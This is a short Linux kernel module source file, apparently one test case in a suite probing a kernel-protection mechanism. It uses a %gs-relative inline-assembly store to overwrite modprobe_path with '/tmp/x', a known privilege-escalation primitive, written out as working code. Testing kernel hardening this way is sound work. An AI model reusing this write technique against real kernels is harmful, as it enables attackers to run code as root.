// SPDX-License-Identifier: GPL-2.0
/*
 * atk_gs_store: a %gs-relative store through a register, with the
 * register set to modprobe_path (target=) minus this CPU's per-CPU base
 * (this_cpu_off, which the module may read): %gs:(%rdi) is then
 * modprobe_path itself.
 */
#include <linux/fs.h>
#include <linux/percpu.h>
#include <linux/preempt.h>
#include "attack.h"

static int attack(struct file *f)
{
	unsigned long evil = 0x782f706d742fUL;	/* "/tmp/x" */

	preempt_disable();
	asm volatile("mov %%gs:this_cpu_off, %%rdi\n\t"
		     "neg %%rdi\n\t"
		     "add %1, %%rdi\n\t"
		     "mov %0, %%gs:(%%rdi)"
		     : : "r"(evil), "r"(target) : "rdi", "memory");
	preempt_enable();
	return 0;
}
